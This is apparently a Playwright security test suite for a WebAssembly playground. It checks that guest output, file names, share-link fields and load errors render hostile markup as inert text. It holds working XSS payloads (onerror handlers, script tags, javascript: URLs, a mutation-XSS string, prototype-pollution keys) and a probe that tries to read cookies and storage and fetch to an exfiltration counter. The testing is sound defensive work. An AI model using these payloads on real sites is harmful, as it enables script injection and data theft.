/**
 * Hostile output (DESIGN.md §11: guest output can never run script in the app's origin).
 * Script is pushed through every place guest data reaches the page: rendered outputs, names in
 * a module, file names, console lines, share-link fields and load errors. Each place must show
 * the payload as inert text (or sanitised), and nothing may fire: no `window.__pwned`, no
 * request to the fixture server's counting URL, no dialog, no CSP violation, no injected markup
 * (see support/hostile.ts; the first test shows those detectors do see an injection).
 */
import type { Locator } from '@playwright/test';
import { Plugin } from './support/plugin';
import { customSection, expect, file, HOSTILE_PLUGIN_WAT, hostileWasiWat, namePayload, producersSection, sha256, shareHash, test, wat, watString } from './support/hostile';
import type { Guard } from './support/hostile';
import type { Playground } from './support/playground';
import { CORS_ORIGIN } from './support/urls';

let pluginBytes: Buffer;
test.beforeAll(async () => {
  pluginBytes = await wat(HOSTILE_PLUGIN_WAT);
});

/** Load the hostile plugin through "Module file" as `name`. */
async function openPlugin(pg: Playground, name = 'hostile-plugin.wasm'): Promise<Plugin> {
  await pg.fileInput.setInputFiles(file(name, pluginBytes, 'application/wasm'));
  await pg.expectLoaded(name);
  return new Plugin(pg);
}

/** Run `func` of the loaded plugin with `input` given as an input file (bytes as they are, no editor). */
async function runWith(plugin: Plugin, func: string, input: string, name = 'input.txt'): Promise<void> {
  await plugin.pg.selectFunction(func);
  await plugin.inputFile.setInputFiles(file(name, input, 'text/plain'));
  await plugin.pg.runButton.click();
}

/** The Output's text shows `text` literally (markup as characters, not elements). */
async function expectText(where: Locator, text: string): Promise<void> {
  await expect(where).toContainText(text);
}

test('the detectors see an injection, so a quiet run means something', async ({ guard, page, request }) => {
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', `<img id="control" src="x" onerror="window.__pwned='control'">`));
  // The CSP stops the handler (so __pwned stays unset) and reports it; the markup itself is found.
  const seen = await page.evaluate(async () => {
    const w = window as unknown as { __csp: string[]; __pwned?: unknown };
    for (let i = 0; i < 50 && w.__csp.length === 0; i++) await new Promise((r) => setTimeout(r, 20));
    return { csp: w.__csp.slice(), pwned: w.__pwned, handlers: document.querySelectorAll('[onerror]').length };
  });
  expect(seen.csp.some((v) => v.startsWith('script-src-attr'))).toBe(true);
  expect(seen.pwned).toBeUndefined();
  expect(seen.handlers).toBe(1);
  await expect(guard.expectInert('a deliberate injection')).rejects.toThrow(/event handler/);
  // The counting URL counts (under another key, so this test's own count stays 0).
  await request.get(`${guard.exfil}-control`);
  expect(await (await request.get(`${CORS_ORIGIN}/hits?key=${guard.key}-control`)).json()).toEqual({ hits: 1 });
  // Clean up so the closing checks see a quiet page again.
  await page.evaluate(() => {
    document.getElementById('control')?.remove();
    (window as unknown as { __csp: string[] }).__csp = [];
  });
});

/** An HTML page whose script reports what it can reach, line by line, into <pre id="r">. */
function htmlProbe(guard: Guard): string {
  return `<!doctype html><html><body><pre id="r">scripts: not run</pre>
<p id="img">img onerror: not run</p>
<img src=x onerror="let r='ran';try{parent.__pwned='html-img'}catch(e){r+=', parent: blocked ('+e.name+')'}document.getElementById('img').textContent='img onerror: '+r">
<script>
(async () => {
  const lines = ['scripts: ran', 'origin: ' + self.origin];
  const probe = async (name, fn) => {
    try { lines.push(name + ': read ' + JSON.stringify(String(await fn()))); }
    catch (e) { lines.push(name + ': blocked (' + e.name + ')'); }
  };
  await probe('parent.wasmPlayground', () => typeof parent.wasmPlayground.run);
  await probe('parent.__pwned', () => { parent.__pwned = 'html-frame'; return 'set'; });
  await probe('parent.document', () => parent.document.title);
  await probe('cookie', () => document.cookie);
  await probe('localStorage', () => localStorage.length);
  await probe('indexedDB', () => new Promise((ok, no) => { const r = indexedDB.open('wasm-playground-library'); r.onsuccess = () => ok('opened'); r.onerror = () => no(r.error); }));
  await probe('fetch', () => fetch('${guard.exfil}&at=html-frame').then((r) => r.status));
  await probe('top.location', () => { top.location.href = "javascript:window.__pwned='top-nav'"; return 'assigned'; });
  document.getElementById('r').textContent = lines.concat('probe: done').join('\\n');
})();
</script></body></html>`;
}

test('HTML output: sandboxed without scripts by default; with "Allow scripts" it runs in an opaque origin that reaches nothing of the app', async ({ guard, playground, page }) => {
  await page.evaluate(() => {
    document.cookie = 'secret=app-cookie; path=/';
  });
  const plugin = await openPlugin(playground);
  await runWith(plugin, 'echo', htmlProbe(guard), 'probe.html');
  await plugin.expectOk();
  await expect(plugin.outputMeta).toHaveText(/^text\/html/);
  const frame = playground.output.locator('iframe[title="HTML output"]');
  await expect(frame).toHaveAttribute('sandbox', '');
  const results = page.frameLocator('iframe[title="HTML output"]').locator('#r');
  await expect(results).toHaveText('scripts: not run');
  await expect(page.frameLocator('iframe[title="HTML output"]').locator('#img')).toHaveText('img onerror: not run');
  // Read from outside (the page itself cannot run): its document has an opaque origin.
  const staticFrame = page.frames().find((f) => f.parentFrame() === page.mainFrame() && f.url().startsWith('blob:'));
  expect(await staticFrame?.evaluate(() => origin)).toBe('null');
  await guard.expectInert('HTML output without scripts');

  await playground.output.getByRole('checkbox', { name: 'Allow scripts' }).check();
  await expect(frame).toHaveAttribute('sandbox', 'allow-scripts');
  await expect(results).toContainText('probe: done');
  await expect(page.frameLocator('iframe[title="HTML output"]').locator('#img')).toHaveText('img onerror: ran, parent: blocked (SecurityError)');
  const lines = (await results.innerText()).split('\n');
  expect(lines.slice(0, 2)).toEqual(['scripts: ran', 'origin: null']);
  for (const probe of ['parent.wasmPlayground', 'parent.__pwned', 'parent.document', 'cookie', 'localStorage', 'indexedDB']) {
    expect(lines, probe).toContainEqual(`${probe}: blocked (SecurityError)`);
  }
  // The frame's own CSP has no connect-src: the request never leaves.
  expect(lines).toContainEqual('fetch: blocked (TypeError)');
  expect(lines.join('\n')).not.toContain('app-cookie');
  // A sandboxed frame cannot navigate the app (no allow-top-navigation); the app is still here.
  await expect(playground.moduleHeading('hostile-plugin.wasm')).toBeVisible();
  expect(new URL(page.url()).pathname).toBe('/');
  await guard.expectInert('HTML output with scripts');
});

test('SVG, Markdown, CSV, JSON, text and hex outputs show hostile bytes inert', async ({ guard, playground }) => {
  const plugin = await openPlugin(playground);
  const out = playground.output;

  // SVG: shown by <img> from a blob: URL, where onload and <script> never run.
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="window.__pwned='svg-onload'"><script>window.__pwned='svg-script';fetch('${guard.exfil}&amp;at=svg')</script><foreignObject width="40" height="20"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="window.__pwned='svg-img'"/></foreignObject><rect width="40" height="20" fill="red"/></svg>`;
  await runWith(plugin, 'echo', svg, 'x.svg');
  await plugin.expectOk();
  await expect(plugin.outputMeta).toHaveText(/^image\/svg\+xml/);
  const img = out.getByRole('img', { name: 'Output image' });
  await expect(img).toHaveAttribute('src', /^blob:/);
  await expect.poll(() => img.evaluate((el: HTMLImageElement) => el.naturalWidth)).toBe(40);
  await expect(out.locator('svg')).toHaveCount(0);
  await guard.expectInert('SVG output');

  // Markdown: raw HTML and script URLs are sanitised away; the text stays.
  const markdown = [
    '# Heading',
    `<img src=x onerror="window.__pwned='md-img'">`,
    `<script>window.__pwned='md-script'</script>`,
    `[js link](javascript:window.__pwned='md-link')`,
    `<a href="javascript:window.__pwned='md-a'">raw link</a>`,
    `<iframe srcdoc="<script>parent.__pwned='md-iframe'</script>"></iframe>`,
    `<details open ontoggle="window.__pwned='md-details'"><summary>sum</summary></details>`,
    `<svg><script>window.__pwned='md-svg'</script></svg>`,
    `<form action="javascript:window.__pwned='md-form'"><button>go</button></form>`,
    `<object data="javascript:window.__pwned='md-object'"></object><embed src="javascript:window.__pwned='md-embed'">`,
    `<a href="data:text/html,<script>alert(1)</script>">data link</a>`,
    // Mutation XSS (last: it leaves a <style> open): harmless only if the sanitiser sees what the browser will build.
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=window.__pwned='md-mxss'&gt;">`,
  ].join('\n\n');
  await runWith(plugin, 'echo', markdown, 'x.md');
  await plugin.expectOk();
  await plugin.outputType.selectOption({ label: 'Markdown' });
  const view = out.locator('.markdown-view');
  await expect(view.getByRole('heading', { level: 1, name: 'Heading' })).toBeVisible();
  await expect(view).toContainText('data link');
  // DOMPurify may keep inert <svg>/<math> shells; nothing that runs or frames survives.
  await expect(view.locator('script, iframe, object, embed, form, style, foreignObject')).toHaveCount(0);
  await expect(view.locator('[onerror], [ontoggle], [onload]')).toHaveCount(0);
  for (const name of ['js link', 'raw link', 'data link']) {
    const link = view.getByText(name, { exact: true });
    await expect(link).toBeVisible();
    // The script or data URL is gone: no href at all, or a harmless one.
    expect(await link.evaluate((a) => a.getAttribute('href') ?? '')).not.toMatch(/^\s*(javascript|data):/i);
  }
  await guard.expectInert('Markdown output');

  // CSV: cells are text.
  const cellA = `<img src=x onerror="window.__pwned='csv'">`;
  const cellB = `"><script>window.__pwned='csv2'</script>`;
  await runWith(plugin, 'echo', `name,value\n"${cellA.replace(/"/g, '""')}","${cellB.replace(/"/g, '""')}"\n`, 'x.csv');
  await plugin.expectOk();
  await plugin.outputType.selectOption({ label: 'CSV' });
  const table = out.getByRole('table', { name: 'CSV table' });
  await expect(table.getByRole('row').nth(1).getByRole('cell')).toHaveText([cellA, cellB]);
  await guard.expectInert('CSV output');

  // JSON: keys and strings are text, and "__proto__" keys stay data (no prototype pollution).
  const json = JSON.stringify({ [cellA]: cellB, nested: { html: guard.payload('json') } }).replace(/^\{/, '{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},');
  await runWith(plugin, 'echo', json, 'x.json');
  await plugin.expectOk();
  await plugin.outputType.selectOption({ label: 'JSON' });
  const tree = out.getByRole('tree', { name: 'JSON' });
  // Strings are shown as JSON literals: the markup is there, quotes escaped, as text.
  await expect(tree.getByRole('treeitem', { name: `${JSON.stringify(cellA)}: ${JSON.stringify(cellB)}` })).toBeVisible();
  await tree.getByRole('button', { name: /"nested"/ }).click();
  await expectText(tree, JSON.stringify(guard.payload('json')));
  await expectText(tree, '"__proto__"');
  await guard.expectInert('JSON output');

  // Text, then the same bytes as hex: the ASCII column is text too.
  const text = guard.payload('text');
  await runWith(plugin, 'echo', text, 'x.txt');
  await plugin.expectOk();
  await plugin.outputType.selectOption({ label: 'Text' });
  await expect(plugin.textLines).toHaveText([text]);
  await guard.expectInert('text output');
  await plugin.outputType.selectOption({ label: 'Bytes (hex)' });
  const hex = out.getByRole('group', { name: 'Hex dump' });
  await expect(hex.locator('.hex-ascii').first()).toHaveText('<img src=x onerr');
  await guard.expectInert('hex output');
});

test('PDF output: HTML dressed as a PDF is never shown as a page', async ({ guard, playground, page }) => {
  const plugin = await openPlugin(playground);
  await runWith(plugin, 'echo', `%PDF-1.4\n<p id="pwn-pdf">as a page</p>${guard.payload('pdf')}`, 'x.pdf');
  await plugin.expectOk();
  await plugin.outputType.selectOption({ label: 'PDF' });
  const frame = playground.output.locator('iframe[title="PDF output"]');
  await expect(frame).toHaveAttribute('src', /^blob:/);
  // The frame is the app's origin (Chromium's viewer refuses a sandbox): its document must be the
  // PDF viewer, never these bytes parsed as HTML.
  await expect.poll(() => frame.evaluate((f: HTMLIFrameElement) => f.contentDocument?.contentType)).toBe('application/pdf');
  await page.waitForTimeout(300);
  for (const f of page.frames()) {
    const parsed = await f.evaluate(() => document.getElementById('pwn-pdf') !== null).catch(() => false);
    expect(parsed, `the bytes parsed as a page in ${f.url()}`).toBe(false);
  }
  await guard.expectInert('PDF output');
});

test('names inside a module: exports, imports and custom sections in the Inspector, the Function picker, the missing-imports notice and stub lines', async ({ guard, playground }) => {
  const exportName = guard.payload('export');
  const importModule = `"><script>window.__pwned='import-module'</script>`;
  const importField = `<img src=x onerror="window.__pwned='import-field'">`;
  const sectionName = guard.payload('custom-section');
  const producer = `<img src=x onerror="window.__pwned='producer'">`;
  const body = await wat(`(module
    (import ${watString(importModule)} ${watString(importField)} (func $f (param i32)))
    (func (export ${watString(exportName)}) (param i32) (result i32) (call $f (local.get 0)) (local.get 0)))`);
  const bytes = Buffer.concat([body, customSection(sectionName, [1, 2, 3]), producersSection('language', producer, '1.0')]);
  const moduleName = `${namePayload('module-name')}.wasm`;
  await playground.fileInput.setInputFiles(file(moduleName, bytes, 'application/wasm'));
  await playground.expectLoaded(moduleName);
  await guard.expectInert('the module name');

  await expectText(playground.exportsList, exportName);
  await playground.inspector.getByRole('tab', { name: 'Imports' }).click();
  await expectText(playground.importsList, importModule);
  await expectText(playground.importsList, importField);
  await playground.inspector.getByRole('tab', { name: 'Sections' }).click();
  await expectText(playground.inspector, sectionName);
  await expectText(playground.inspector, producer);
  await guard.expectInert('the Inspector');

  await expect(playground.functionPicker.locator('option')).toHaveCount(1);
  await expect(playground.functionPicker.locator('option')).toContainText(exportName);
  await expectText(playground.missingImports, importModule);
  await expectText(playground.missingImports, importField);
  await guard.expectInert('the Function picker and missing imports');

  await playground.stubCheckbox.check();
  await playground.fillArgs('7');
  await playground.runButton.click();
  await playground.expectValues('7');
  const stub = playground.console.locator('[data-stream="stub"] .text');
  await expectText(stub, `${importModule}.${importField}(7)`);
  await guard.expectInert('stub lines');

  // The library lists it by its name too.
  await playground.recentButton.click();
  await expect(playground.page.getByRole('button', { name: `Open ${moduleName}`, exact: true })).toBeVisible();
  await guard.expectInert('Recent modules');
});

test('console lines, vars, error messages and blocked requests from a plugin', async ({ guard, playground }) => {
  const plugin = await openPlugin(playground, `${namePayload('plugin-name')}.wasm`);
  const text = guard.payload('console');
  await runWith(plugin, 'shout', text, `${namePayload('input-file')}.txt`);
  await plugin.expectOk();
  await expect(plugin.page.locator('.input-file-name')).toHaveText(`${namePayload('input-file')}.txt`);
  await expect(plugin.consoleText('log')).toHaveText([text, text]);
  await expect(plugin.vars.locator('dt')).toHaveText([text]);
  await expect(plugin.vars.locator('dd')).toHaveText([text]);
  await guard.expectInert('log lines and vars');

  await runWith(plugin, 'fail', text);
  await playground.expectRunError(text);
  await guard.expectInert('an error message');

  // A host outside the allowlist: the blocked line and its "Allow" button carry the URL as text.
  const blockedUrl = `http://blocked.example/?q=${namePayload('blocked-url')}`;
  await runWith(plugin, 'request', JSON.stringify({ url: blockedUrl, method: 'GET' }));
  await expect(playground.status).toHaveText(/^error\b/);
  await expect(plugin.consoleText('blocked')).toContainText([/blocked\.example/]);
  await expect(playground.console.getByRole('button', { name: 'Allow blocked.example' })).toBeVisible();
  await guard.expectInert('a blocked request');

  // A request that is not a URL at all: the message quotes it.
  const notUrl = `http://<img src=x onerror="window.__pwned='bad-url'">/`;
  await runWith(plugin, 'request', JSON.stringify({ url: notUrl }));
  await playground.expectRunError(notUrl);
  await guard.expectInert('an invalid request URL');
});

test('file names: an uploaded file and one a plugin writes, in the Files panel and its viewer', async ({ guard, playground, page }) => {
  // Uploaded through the Files panel: a hostile name, hostile Markdown inside.
  const uploaded = `${namePayload('upload')}.md`;
  await playground.uploadFiles({ name: uploaded, text: `# Notes\n\n${guard.payload('upload-content')}\n` });
  await playground.fileRow(uploaded).getByRole('button', { name: 'View' }).click();
  const viewer = page.getByRole('region', { name: `Viewing ${uploaded}` });
  await expect(viewer.getByRole('heading', { name: 'Notes' })).toBeVisible();
  await expect(viewer.locator('script, iframe, [onerror], [onload]')).toHaveCount(0);
  await guard.expectInert('an uploaded file and its viewer');

  // Written by a guest: the blocked path, then the file it writes once /data is mounted.
  const plugin = new Plugin(playground);
  await plugin.open('extism/wasi-file.wasm');
  const written = `${namePayload('guest-file')}.html`;
  await runWith(plugin, 'read_file', `/data/${written}`);
  await expect(plugin.consoleText('blocked')).toContainText([`/data/${written}`]);
  await guard.expectInert('a blocked path');
  await playground.console.getByRole('button', { name: 'Mount a folder at /data' }).click();
  await expect(playground.mountedFolders).toContainText('/data ← home:/ read-write');
  await runWith(plugin, 'write_file', `/data/${written}\n${guard.payload('guest-file-content')}`);
  await plugin.expectOk();
  await expect(plugin.textLines).toHaveText([/^wrote \d+ bytes to \/data\//]);
  await playground.showPanel('Files');
  await expect(playground.fileRow(written)).toBeVisible();
  await playground.fileRow(written).getByRole('button', { name: 'View' }).click();
  const view = page.getByRole('region', { name: `Viewing ${written}` });
  await expect(view.locator('iframe[title="HTML output"]')).toHaveAttribute('sandbox', '');
  await guard.expectInert('a guest-written file and its viewer');
});

test('a share link with hostile fields: module name, function, input, output type, config and grants', async ({ guard, playground }) => {
  const moduleName = `${namePayload('share-name')}.wasm`;
  const func = guard.payload('share-func');
  const input = guard.payload('share-input');
  const configKey = namePayload('config-key');
  const configValue = guard.payload('config-value');
  const outputMime = `text/x-hostile"><img src=x onerror="window.__pwned='output-mime'">`;
  const inputMime = `text/x-hostile"><img src=x onerror="window.__pwned='input-mime'">`;
  const host = `<img src=x onerror="window.__pwned='grant-host'">.example`;
  const guestPath = `/${namePayload('guest-path')}`;
  await playground.goto(
    shareHash({
      v: 1,
      module: { sha256: sha256(pluginBytes), name: moduleName, inline: pluginBytes.toString('base64url') },
      func,
      input: { mime: inputMime, text: input },
      outputMime,
      // A "__proto__" key from a link must stay a plain config row.
      config: JSON.parse(`{${JSON.stringify(configKey)}:${JSON.stringify(configValue)},"__proto__":"x"}`) as Record<string, string>,
      grants: { hosts: [host], mounts: [{ volume: 'home', path: namePayload('mount-dir'), guestPath, readOnly: true }] },
      lesson: { title: namePayload('lesson-title'), markdown: guard.payload('lesson') },
    }),
  );
  await playground.expectLoaded(moduleName);
  const plugin = new Plugin(playground);
  await expect(plugin.configKey(1)).toHaveValue(configKey);
  await expect(plugin.configValue(1)).toHaveValue(configValue);
  await expect(plugin.configKey(2)).toHaveValue('__proto__');
  await expect(plugin.configValue(2)).toHaveValue('x');
  await expect(plugin.inputType).toHaveValue(inputMime);
  // Monaco wraps the long line and renders only what is on screen: its start is there as text
  // (the whole input is checked below, where the run echoes it).
  await expect.poll(async () => (await plugin.editorText()).replace(/\n/g, '')).toContain(input.slice(0, 80));
  const dialog = plugin.grantRequest;
  await expectText(dialog, host);
  await expectText(dialog.getByRole('list', { name: 'Requested mounts' }), guestPath);
  await guard.expectInert('a share link (settings and grant request)');

  // The module has no function by the hostile name: the picker keeps to the real ones.
  await expect(playground.functionPicker).toHaveValue('echo');
  await plugin.call('echo');
  await plugin.expectOk();
  await expect(plugin.outputType).toHaveValue(outputMime);
  await expect(plugin.textLines).toHaveText([input]);
  await guard.expectInert('a run from a share link');
});

test('a WASI program: stdout and stderr lines, and argv and env from a share link', async ({ guard, playground }) => {
  const stdout = guard.payload('stdout');
  const stderr = `"><script>window.__pwned='stderr'</script>`;
  const bytes = await wat(hostileWasiWat(`${stdout}\n`, `${stderr}\n`));
  const arg = namePayload('argv');
  const envValue = guard.payload('env');
  await playground.goto(
    shareHash({
      v: 1,
      module: { sha256: sha256(bytes), name: 'hostile-wasi.wasm', inline: bytes.toString('base64url') },
      func: '_start',
      argv: [arg, `<b>second</b>`],
      env: { HOSTILE: envValue, [namePayload('env-name')]: 'x' },
    }),
  );
  await playground.expectLoaded('hostile-wasi.wasm');
  const wasi = playground.page.getByRole('region', { name: 'WASI settings' });
  await expect(wasi.getByRole('textbox', { name: 'Arguments' })).toHaveValue(/second/);
  await expect(wasi.getByRole('textbox', { name: 'Env value 1' })).toHaveValue(envValue);
  await guard.expectInert('argv and env from a share link');

  await playground.runButton.click();
  await expect(playground.status).toHaveText(/^ok\b/);
  const out = playground.console.locator('[data-stream="stdout"] .text');
  const err = playground.console.locator('[data-stream="stderr"] .text');
  await expect(out).toContainText([stdout, 'hostile-wasi.wasm', arg, '<b>second</b>']);
  await expect(err).toContainText([stderr, `HOSTILE=${envValue}`]);
  await guard.expectInert('stdout and stderr lines');
});

test('load errors: a URL with markup, a javascript: URL, and manifests with hostile fields', async ({ guard, playground, page }) => {
  // The URL is percent-encoded by the time the server answers 404.
  await playground.loadUrl(`${CORS_ORIGIN}/fixtures/${namePayload('url')}.wasm`);
  await expect(playground.loadError).toContainText(`/fixtures/%22%3E%3Cimg%20src=x%20onerror=%22window.__pwned='url'%22%3E.wasm`);
  await guard.expectInert('a 404 URL with markup');

  const js = `javascript:window.__pwned='url-box';fetch('${guard.exfil}&at=url-box')`;
  await playground.loadUrl(js);
  await expect(playground.loadError).toContainText(`javascript:window.__pwned='url-box';fetch(`);
  await expect(playground.loadError).toContainText('is not a URL the playground can load');
  await guard.expectInert('a javascript: URL');

  // Regression: a URL that does not parse at all threw in the Load handler and left the previous error up.
  const notUrl = `http://"><img src=x onerror="window.__pwned='url-host'">/a.wasm`;
  await playground.loadUrl(notUrl);
  await expect(playground.loadError).toContainText(`"${notUrl}" is not a URL the playground can load`);
  await guard.expectInert('a URL that does not parse');

  // A manifest with a hostile host: refused, and the message quotes it as text.
  const badHost = `<img src=x onerror="window.__pwned='manifest-host'">.example`;
  await playground.fileInput.setInputFiles(file('hosts.json', JSON.stringify({ wasm: [{ data: pluginBytes.toString('base64') }], allowed_hosts: [badHost] }), 'application/json'));
  await expectText(playground.loadError, badHost);
  await guard.expectInert('a manifest with a hostile host');

  // A manifest whose other free-text fields are hostile: the Manifest region and the grant request show them as text.
  const name = namePayload('manifest-name');
  const manifest = {
    wasm: [{ data: pluginBytes.toString('base64'), name }],
    config: { [namePayload('manifest-config')]: guard.payload('manifest-config-value') },
    allowed_paths: { [`home:/${namePayload('manifest-path')}`]: `/${namePayload('manifest-guest')}` },
    [guard.payload('manifest-key')]: 1,
  };
  const manifestFile = `${namePayload('manifest-file')}.json`;
  await playground.fileInput.setInputFiles(file(manifestFile, JSON.stringify(manifest), 'application/json'));
  const region = page.getByRole('region', { name: 'Manifest' });
  await expect(region).toBeVisible();
  await expectText(region, `/${namePayload('manifest-guest')}`);
  await expectText(page.getByRole('alertdialog', { name: 'Grant request' }), `/${namePayload('manifest-guest')}`);
  await expect(page.getByRole('textbox', { name: 'Config key 1' })).toHaveValue(namePayload('manifest-config'));
  await guard.expectInert('a manifest with hostile fields');

  // A manifest that fails: its message names the module.
  const bad = { wasm: [{ data: pluginBytes.toString('base64'), name, hash: '0'.repeat(64) }] };
  await playground.fileInput.setInputFiles(file('bad.json', JSON.stringify(bad), 'application/json'));
  await expect(playground.loadError).toContainText(`wasm[0] ("${name}") does not match the hash`);
  await guard.expectInert('a failing manifest');
  const urlManifest = { wasm: [{ url: `javascript:window.__pwned='manifest-url'`, name }] };
  await playground.fileInput.setInputFiles(file('url.json', JSON.stringify(urlManifest), 'application/json'));
  await expect(playground.loadError).toContainText('wasm[0].url must use http or https, not "javascript:"');
  await guard.expectInert('a manifest with a javascript: URL');
});
